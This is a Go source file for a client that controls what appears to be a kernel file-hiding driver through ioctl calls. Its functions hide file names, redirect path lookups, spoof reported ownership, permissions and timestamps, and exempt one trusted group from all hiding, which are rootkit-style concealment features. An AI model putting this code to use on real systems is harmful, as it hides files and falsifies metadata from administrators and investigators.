package hider

import (
	"errors"
	"fmt"
	"unsafe"
)

// Client speaks the fixed-buffer protocol of the file-hiding driver: every
// verb carries either a NUL-padded name buffer, a "src|target" pair buffer,
// or a fixed-layout struct. Oversized input is rejected here, before any
// syscall, so a bad path never reaches the kernel.
type Client struct {
	t Transport
}

// ClientDevicePath is the control device for the fixed-buffer driver.
const ClientDevicePath = "/dev/poa_ctl"

const (
	ctlMagic = 0x43

	nameBufSize    = 256
	payloadBufSize = 512

	// spoofWireSize is the byte size the driver expects for spoof
	// requests. The struct layout below must keep producing exactly this.
	spoofWireSize = 280
)

var (
	// ErrNameTooLong is returned when a name does not fit the 256-byte
	// wire buffer (one byte is reserved for the NUL terminator).
	ErrNameTooLong = errors.New("hider: name too long")
	// ErrPayloadTooLong is returned when a src|target pair does not fit
	// the 512-byte wire buffer.
	ErrPayloadTooLong = errors.New("hider: payload too long")
)

// spoofArgs is the wire layout of a metadata-spoof request. The padding
// field is explicit: the driver's C struct aligns mtime to 8 bytes and the
// total size is part of the request number.
type spoofArgs struct {
	Name  [nameBufSize]byte
	UID   uint32
	GID   uint32
	Mode  uint16
	_     [6]byte
	Mtime uint64
}

func init() {
	if got := unsafe.Sizeof(spoofArgs{}); got != spoofWireSize {
		panic(fmt.Sprintf("hider: spoofArgs is %d bytes, wire format requires %d", got, spoofWireSize))
	}
}

var (
	opAddHide       = ioWrite(ctlMagic, 1, nameBufSize)
	opDelHide       = ioWrite(ctlMagic, 2, nameBufSize)
	opAddRedirect   = ioWrite(ctlMagic, 4, payloadBufSize)
	opDelRedirect   = ioWrite(ctlMagic, 5, nameBufSize)
	opAddSpoof      = ioWrite(ctlMagic, 7, spoofWireSize)
	opDelSpoof      = ioWrite(ctlMagic, 8, nameBufSize)
	opAddMerge      = ioWrite(ctlMagic, 10, payloadBufSize)
	opDelMerge      = ioWrite(ctlMagic, 11, nameBufSize)
	opSetTrustedGID = ioWrite(ctlMagic, 13, 4)
)

// OpenClient opens the fixed-buffer driver's control device.
func OpenClient() (*Client, error) {
	t, err := openDevice(ClientDevicePath)
	if err != nil {
		return nil, err
	}
	return &Client{t: t}, nil
}

// NewClient wraps an existing transport; used by tests.
func NewClient(t Transport) *Client {
	return &Client{t: t}
}

// Close releases the control device.
func (c *Client) Close() error {
	return c.t.Close()
}

// packName NUL-pads name into a fixed 256-byte buffer.
func packName(name string) ([nameBufSize]byte, error) {
	var buf [nameBufSize]byte
	if len(name) >= nameBufSize {
		return buf, fmt.Errorf("%w: %d bytes", ErrNameTooLong, len(name))
	}
	copy(buf[:], name)
	return buf, nil
}

// packPair encodes "src|target" into a fixed 512-byte buffer.
func packPair(src, target string) ([payloadBufSize]byte, error) {
	var buf [payloadBufSize]byte
	payload := src + "|" + target
	if len(payload) >= payloadBufSize {
		return buf, fmt.Errorf("%w: %d bytes", ErrPayloadTooLong, len(payload))
	}
	copy(buf[:], payload)
	return buf, nil
}

func (c *Client) nameOp(op uint32, name string) error {
	buf, err := packName(name)
	if err != nil {
		return err
	}
	return c.t.Ioctl(op, unsafe.Pointer(&buf))
}

func (c *Client) pairOp(op uint32, src, target string) error {
	buf, err := packPair(src, target)
	if err != nil {
		return err
	}
	return c.t.Ioctl(op, unsafe.Pointer(&buf))
}

// Hide registers name in the driver's hide table.
func (c *Client) Hide(name string) error {
	return c.nameOp(opAddHide, name)
}

// Unhide removes a previously hidden name.
func (c *Client) Unhide(name string) error {
	return c.nameOp(opDelHide, name)
}

// Redirect makes lookups of src resolve to target.
func (c *Client) Redirect(src, target string) error {
	return c.pairOp(opAddRedirect, src, target)
}

// Unredirect removes the redirect rule for src.
func (c *Client) Unredirect(src string) error {
	return c.nameOp(opDelRedirect, src)
}

// Spoof overrides the metadata reported for name.
func (c *Client) Spoof(name string, uid, gid uint32, mode uint16, mtime uint64) error {
	nameBuf, err := packName(name)
	if err != nil {
		return err
	}
	args := spoofArgs{
		Name:  nameBuf,
		UID:   uid,
		GID:   gid,
		Mode:  mode,
		Mtime: mtime,
	}
	return c.t.Ioctl(opAddSpoof, unsafe.Pointer(&args))
}

// Unspoof removes the metadata override for name.
func (c *Client) Unspoof(name string) error {
	return c.nameOp(opDelSpoof, name)
}

// Merge overlays target's directory entries onto src.
func (c *Client) Merge(src, target string) error {
	return c.pairOp(opAddMerge, src, target)
}

// Unmerge removes the merge rule for src.
func (c *Client) Unmerge(src string) error {
	return c.nameOp(opDelMerge, src)
}

// SetTrustedGID tells the driver which group bypasses all hiding.
func (c *Client) SetTrustedGID(gid uint32) error {
	return c.t.Ioctl(opSetTrustedGID, unsafe.Pointer(&gid))
}
